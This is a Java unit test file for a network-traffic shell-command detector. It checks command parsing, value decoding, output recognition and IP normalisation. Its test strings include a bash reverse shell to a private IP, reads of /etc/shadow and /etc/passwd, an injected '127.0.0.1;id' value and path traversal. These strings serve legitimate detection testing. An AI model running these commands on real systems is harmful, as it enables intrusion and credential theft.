package org.nta.detect.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.HashSet;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Command lines, value decodings, command output shapes and IP literals. */
class ShellTextTest {
    @ParameterizedTest
    @ValueSource(strings = {"id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /var/www/html", "/bin/sh -i", "./exploit",
            "python3 -c 'print(1)'", "cmd.exe /c dir", "powershell -nop -c whoami", "ipconfig /all", "net user",
            "bash -c 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1'"})
    void commands(String s) {
        assertThat(CommandLine.parse(s)).as(s).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"1", "admin", "hello world", "127.0.0.1;id", "S3cr3t!", "USER anonymous", "PWD", "TYPE I",
            "HELO mail.example.com", "../../etc/passwd", "/etc/passwd", "/tmp/upload.txt", "/var/www/html/index.php", "Mozilla/5.0", "uid=33(www-data)", "etc/passwd", "a\u0001b", ""})
    void notCommands(String s) {
        assertThat(CommandLine.parse(s)).as(s).isNull();
    }

    @Test
    void techniquesFollowTheInterpreter() {
        assertThat(CommandLine.parse("id").techniques()).containsExactly("T1059.004");
        assertThat(CommandLine.parse("python3 x.py").techniques()).containsExactly("T1059.004", "T1059.006");
        assertThat(CommandLine.parse("powershell whoami").techniques()).containsExactly("T1059.001");
        assertThat(CommandLine.parse("ipconfig").techniques()).containsExactly("T1059.003");
    }

    @Test
    void fileReads() {
        assertThat(CommandLine.parse("cat /etc/shadow").fileRead()).isEqualTo("/etc/shadow");
        assertThat(CommandLine.parse("head -n 5 /etc/passwd").fileRead()).isEqualTo("/etc/passwd");
        assertThat(CommandLine.parse("cat /etc/passwd;id").fileRead()).isEqualTo("/etc/passwd");
        assertThat(CommandLine.parse("ls /etc").fileRead()).isNull();
    }

    @Test
    void commandSetsHaveNoDuplicates() {
        // Set.of would have thrown at class initialisation; this keeps the lists honest
        assertThat(new HashSet<>(CommandLine.UNIX)).hasSameSizeAs(CommandLine.UNIX);
    }

    @Test
    void readingsOfAValue() {
        assertThat(ValueDecoder.readings("aWQ=")).extracting(ValueDecoder.Decoded::encoding).containsExactly("plain", "base64");
        assertThat(ValueDecoder.command("aWQ=", null)).isEqualTo(new ValueDecoder.Decoded("id", "base64"));
        assertThat(ValueDecoder.command("dW5hbWUgLWE", null).text()).isEqualTo("uname -a"); // padding dropped
        assertThat(ValueDecoder.command("6964", null)).isEqualTo(new ValueDecoder.Decoded("id", "hex"));
        assertThat(ValueDecoder.command("id", "base64")).isEqualTo(new ValueDecoder.Decoded("id", "plain"));
        assertThat(ValueDecoder.command("cat%20%2Fetc%2Fpasswd", null)).isEqualTo(new ValueDecoder.Decoded("cat /etc/passwd", "url"));
        assertThat(ValueDecoder.base64("admin")).isNull();
        assertThat(ValueDecoder.base64("test")).isNull(); // decodes to bytes that are not text
        assertThat(ValueDecoder.command("hello", null)).isNull();
    }

    @Test
    void outputShapes() {
        assertThat(CommandOutput.strong("uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")).isTrue();
        assertThat(CommandOutput.strong("root:x:0:0:root:/root:/bin/bash\nbin:x:1:1::/:/sbin/nologin")).isTrue();
        assertThat(CommandOutput.strong("total 12\ndrwxr-xr-x 2 www-data root 4096 Nov 28 07:27 .\n")).isTrue();
        assertThat(CommandOutput.strong("Linux portal 6.18.44-fc-v509 #1 SMP PREEMPT_DYNAMIC @0 x86_64 GNU/Linux")).isTrue();
        assertThat(CommandOutput.strong("<html><body>Welcome back, id 3</body></html>")).isFalse();
        assertThat(CommandOutput.answers(CommandLine.parse("whoami"), "www-data\n")).isTrue();
        assertThat(CommandOutput.answers(CommandLine.parse("whoami"), "<html>www-data</html>")).isFalse();
        assertThat(CommandOutput.answers(CommandLine.parse("id"), "www-data\n")).isFalse();
        assertThat(CommandOutput.answers(CommandLine.parse("pwd"), "/var/www/html\n")).isTrue();
        Map<String, Object> u = CommandOutput.user("uid=0(root) gid=0(root)", null);
        assertThat(u).containsEntry("name", "root").containsEntry("uid", 0);
    }

    @Test
    void ipLiterals() {
        assertThat(IpText.canonical("fd77:06b0:0001:0:0:0:0:66")).isEqualTo("fd77:6b0:1::66");
        assertThat(IpText.canonical("[fd77:6b0:1::66]")).isEqualTo("fd77:6b0:1::66");
        assertThat(IpText.canonical("::ffff:10.0.0.1")).isEqualTo("10.0.0.1");
        assertThat(IpText.canonical("010.000.000.001")).isEqualTo("10.0.0.1");
        assertThat(IpText.same("10.251.96.4", "10.251.96.4")).isTrue();
        for (String bad : List.of("evil.example.com", "10.0.0.256", "1::2::3", "12345::1", "", "1.2.3")) {
            assertThat(IpText.canonical(bad)).as(bad).isNull();
        }
    }
}
